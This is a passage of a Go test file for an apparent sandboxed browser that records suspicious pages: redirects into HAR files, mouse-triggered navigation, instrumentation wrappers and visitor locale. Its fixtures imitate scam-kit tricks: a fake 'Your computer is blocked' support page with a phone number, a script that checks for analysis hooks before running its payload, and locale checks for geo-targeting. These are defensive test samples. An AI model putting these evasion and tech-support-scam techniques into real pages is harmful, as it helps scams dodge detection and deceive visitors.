	if peak.Load() > 1000<<20 {
		t.Errorf("browser tree reached %d MB with a 400 MB renderer cap", peak.Load()>>20)
	}
	ok, err := p.Capture(context.Background(), Target{Root: root, File: "ok.html"}, PageOptions{Observe: observe})
	if err != nil || len(events(ok, capture.EventCallNavigation)) == 0 || ok.Runtime.MemoryCapped {
		t.Errorf("pool unhealthy after a memory kill: %v %+v %v", err, ok.Runtime.Events, ok.Notes)
	}
}

// TestHARRedirects: a redirect is its own HAR entry with its status and
// redirectURL; the sandbox's tag header is not in the file.
func TestHARRedirects(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/start" {
			http.Redirect(w, r, "/page?phone=18445550142", http.StatusFound)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, `<p>Your computer is blocked`)
	}))
	defer srv.Close()
	host := "support-alert.example.com"
	p := labPool(t, map[string]string{host + ":80": srv.Listener.Addr().String()})
	c, err := p.Capture(context.Background(), Target{URL: "http://" + host + "/start"}, PageOptions{Observe: observe, HAR: true})
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(string(c.Runtime.HAR), tagPrefix) {
		t.Error("the sandbox's tag is in the HAR")
	}
	var h struct {
		Log struct {
			Entries []struct {
				StartedDateTime string  `json:"startedDateTime"`
				Time            float64 `json:"time"`
				Request         struct {
					URL         string    `json:"url"`
					QueryString []harPair `json:"queryString"`
				} `json:"request"`
				Response struct {
					Status      int        `json:"status"`
					RedirectURL string     `json:"redirectURL"`
					Content     harContent `json:"content"`
				} `json:"response"`
			} `json:"entries"`
		} `json:"log"`
	}
	if err := json.Unmarshal(c.Runtime.HAR, &h); err != nil {
		t.Fatal(err)
	}
	e := h.Log.Entries
	if len(e) < 2 || e[0].Response.Status != 302 || !strings.HasSuffix(e[0].Response.RedirectURL, "/page?phone=18445550142") ||
		e[1].Response.Status != 200 || e[1].Response.Content.MimeType != "text/html" || len(e[1].Request.QueryString) != 1 || e[1].StartedDateTime < e[0].StartedDateTime {
		t.Errorf("entries %+v", e)
	}
}

// The simulated visitor moves the mouse before clicking: what a mousemove
// handler starts is recorded, before the click (moving grants no user
// activation).
func TestMouseMovesBeforeTheClick(t *testing.T) {
	t.Parallel()
	page := `<body style="height:100vh"><script>
document.addEventListener('mousemove', function () { location.href = '` + num + `'; }, { once: true });
</script></body>`
	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Click: true})
	if count(c, capture.EventCallNavigation, false) == 0 || count(c, capture.EventCallNavigation, true) != 0 {
		t.Errorf("a call on the first mousemove: want it before the click; events %+v", c.Runtime.Events)
	}
}

// The instrumentation's wrappers look like the built-ins they wrap: a page
// that checks for hooks before its payload still runs it, and is seen.
func TestWrappersLookNative(t *testing.T) {
	t.Parallel()
	page := `<script>
var fs = [history.pushState, window.print, HTMLMediaElement.prototype.play, Element.prototype.requestFullscreen, window.setTimeout, EventTarget.prototype.addEventListener];
var native = fs.every(function (f) {
  return /\{\s*\[native code\]\s*\}/.test(Function.prototype.toString.call(f)) && Object.getOwnPropertyNames(f).indexOf('toString') < 0 && f.name !== '';
});
if (native && window.print.name === 'print') history.pushState({}, '', '#hooks-not-found');
</script>`
	c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{})
	if count(c, capture.EventHistory, false) == 0 {
		t.Errorf("the page found the hooks: events %+v", c.Runtime.Events)
	}
}

// The visitor's language and time zone are the browser's: a kit aimed at
// Japan that checks them before its payload runs it for a Japanese
// visitor, and the default visitor is in New York, not UTC.
func TestVisitorLocale(t *testing.T) {
	t.Parallel()
	page := `<script>
var tz = Intl.DateTimeFormat().resolvedOptions().timeZone, off = new Date(2026, 0, 15).getTimezoneOffset();
document.addEventListener('DOMContentLoaded', function () { document.body.textContent = 'visitor:' + navigator.language + '|' + tz + '|' + off; });
</script><body></body>`
	for lang, want := range map[string]string{"": "visitor:en-US|America/New_York|300", "ja": "visitor:ja|Asia/Tokyo|-540"} {
		c := load(t, map[string]string{"p.html": page}, "p.html", PageOptions{Language: lang, NoOCR: true})
		if len(c.Documents) == 0 || !strings.Contains(string(c.Documents[0].Body), want) {
			t.Errorf("language %q: want %s in the page", lang, want)
		}
	}
}
